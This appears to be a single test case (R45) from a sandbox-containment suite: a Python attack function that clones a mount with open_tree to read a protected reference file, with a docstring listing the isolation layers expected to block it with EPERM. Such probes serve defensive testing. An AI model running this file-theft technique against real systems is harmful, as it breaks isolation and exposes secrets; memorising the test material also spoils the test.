"""Clone the mount that contains the reference (open_tree), and open the file below it.

id: R45
kind: read
stopped by: empty root folder ENOENT; own user EPERM; no capabilities EPERM; Landlock EACCES; seccomp filter EPERM
outcome: EPERM
without them: secret
besides as user: user namespace; pid namespace; network namespace; ipc namespace; read-only mounts
"""

import os

from attacker import steal, system_call


def attack(target):
    def opened():
        folder, name = os.path.split(target["reference"])
        return os.read(os.open(name, os.O_RDONLY, dir_fd=system_call("open_tree", -100, folder.encode(), 1)), 10_000)

    return steal(target, opened)
